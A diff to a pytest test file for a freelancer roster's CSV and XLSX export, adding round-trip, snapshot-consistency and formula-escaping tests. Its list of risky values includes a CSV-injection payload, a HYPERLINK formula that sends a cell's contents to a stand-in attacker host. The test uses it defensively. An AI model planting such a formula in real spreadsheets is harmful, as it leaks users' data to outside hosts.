@@ -11,8 +11,8 @@ import pytest
 from openpyxl import load_workbook
 
 from freelance.models import Freelancer
-from freelance.roster.export import HEADER
-from tests.roster.files import person
+from freelance.roster.export import FORMULA_START, HEADER, write_csv, write_xlsx
+from tests.roster.files import TENANT, person
 
 RISKY = [
     ("name", '=HYPERLINK("http://evil.example/?d="&A1,"Click")'),  # a formula that would run
@@ -25,9 +25,14 @@ RISKY = [
 ]
 
 
+SKILLS = ["C, C++", "R&D; Strategy", '"Quoted" work', 'Say "a, b"', "Go"]
+"""Skills holding the separators a cell of skills is split on, and quotes."""
+
+
 @pytest.fixture
 def risky_roster(add) -> list[dict]:
-    """One freelancer per risky value, plus one with every optional field filled and a multi-line address."""
+    """One freelancer per risky value, one with every optional field filled and a multi-line address, and
+    one whose skills hold commas, semicolons and quotes."""
     records = [add(person(i, **{field: value})) for i, (field, value) in enumerate(RISKY)]
     records.append(
         add(
@@ -45,6 +50,7 @@ def risky_roster(add) -> list[dict]:
             )
         )
     )
+    records.append(add(person(100, skills=SKILLS)))
     return records
 
 
@@ -118,7 +124,8 @@ def test_the_export_lists_freelancers_by_name(client, add):
 def test_an_export_larger_than_one_read_batch_lists_everyone_once_by_name(client, roster, format):
     # 1,203 freelancers, most sharing one of three names, so that batches of 500 end inside a run of equal names
     names = ["Ana Silva", "Bo Chen", "Zoe Angstrom"]
-    roster.upsert("local", [Freelancer.model_validate(person(i, name=names[i % 3])) for i in range(1_203)], commit=True)
+    freelancers = [Freelancer.model_validate(person(i, name=names[i % 3])) for i in range(1_203)]
+    roster.upsert("local", enumerate(freelancers, start=2), commit=True)
     exported = client.get(f"/api/freelancers/export?format={format}").data
     if format == "csv":
         rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
@@ -175,3 +182,49 @@ def test_a_value_that_starts_with_an_apostrophe_survives_the_round_trip(client, 
     record = add(person(1, business_name="'=quoted' Studio"))
     upload(client.get(f"/api/freelancers/export?format={format}").data, filename)
     assert client.get(f"/api/freelancers/{record['id']}").json["business_name"] == "'=quoted' Studio"
+
+
+@pytest.mark.parametrize("format", ["csv", "xlsx"])
+def test_skills_holding_commas_and_semicolons_survive_the_round_trip(client, upload, add, format):
+    record = add(person(1, skills=SKILLS))
+    response = upload(client.get(f"/api/freelancers/export?format={format}").data, f"roster.{format}")
+    assert response.json["unchanged"] == 1, response.json
+    assert client.get(f"/api/freelancers/{record['id']}").json["skills"] == SKILLS
+
+
+@pytest.mark.parametrize("format", ["csv", "xlsx"])
+def test_an_export_is_the_roster_at_one_moment_whatever_changes_while_it_downloads(app, client, roster, format):
+    # Three reads of 500 would each see the roster of their own moment: a freelancer renamed from the end
+    # to the start of the alphabet between them would be missed, one renamed the other way listed twice.
+    roster.upsert(TENANT, enumerate((Freelancer.model_validate(person(i)) for i in range(1_203)), start=2), commit=True)
+    ids = {r.email: str(r.id) for r in roster.each(TENANT)}
+    download = app.test_client().get(f"/api/freelancers/export?format={format}", buffered=False)
+    chunks = iter(download.response)
+    first = next(chunks)  # under way: the server has read the roster
+    last, early = person(1_202)["email"], person(0)["email"]
+    assert client.patch(f"/api/freelancers/{ids[last]}", json={"name": "Aaron First"}).status_code == 200
+    assert client.patch(f"/api/freelancers/{ids[early]}", json={"name": "Zoe Last"}).status_code == 200
+    assert client.delete(f"/api/freelancers/{ids[person(600)['email']]}").status_code == 204
+    assert client.post("/api/freelancers", json=person(5_000)).status_code == 201
+    exported = first + b"".join(chunks)
+    download.close()
+    if format == "csv":
+        rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
+    else:
+        rows = [[value for value, _ in row] for row in _xlsx_rows(exported)]
+    assert [row[HEADER.index("email")] for row in rows[1:]] == [person(i)["email"] for i in range(1_203)]
+    assert [row[0] for row in rows[1:]] == [person(i)["name"] for i in range(1_203)]  # as they were
+
+
+@pytest.mark.parametrize("start", FORMULA_START)
+def test_text_starting_like_a_formula_stays_text_in_both_formats(start):
+    # (Tabs and carriage returns cannot reach a record, whose text has no control characters; the
+    # writers guard them all the same.)
+    rows = [["name"], [start + "1+1"]]
+    assert list(csv.reader(io.StringIO("".join(write_csv(iter(rows))).lstrip("\ufeff")))) == [
+        ["name"],
+        ["'" + start + "1+1"],
+    ]
+    out = io.BytesIO()
+    write_xlsx(iter(rows), out)
+    assert _xlsx_rows(out.getvalue())[1] == [(start + "1+1", "s")]
